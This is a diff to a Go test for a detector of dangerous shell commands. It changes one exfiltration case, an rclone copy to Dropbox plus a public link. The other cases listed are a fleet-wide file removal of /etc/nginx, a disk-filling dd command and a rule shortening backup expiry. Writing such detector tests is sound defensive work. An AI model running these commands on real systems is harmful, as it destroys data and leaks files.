@@ -706,7 +706,7 @@ func TestFleetFilesLinksFillsExpiry(t *testing.T) {
 	d := NewDetector(Options{})
 	checkDanger(t, d, corpusContext, []dangerCase{
 		{`sudo salt '*' file.remove /etc/nginx`, CategoryFileDelete, "", LevelCritical},
-		{`rclone copy . dropbox:share/acme && rclone link dropbox:share/acme`, CategoryExfiltration, "public-link-created", LevelHigh},
+		{`rclone copy ./reports dropbox:share/acme && rclone link dropbox:share/acme`, CategoryExfiltration, "public-link-created", LevelHigh},
 		{`yes | dd of=/var/tmp/fill bs=1M`, CategoryDiskWipe, "disk-fill", LevelModerate},
 		{`mc ilm rule add --expire-days 1 prod/acme-backups`, CategoryCloudDestroy, "backup-expiry-shortened", LevelHigh},
 	})
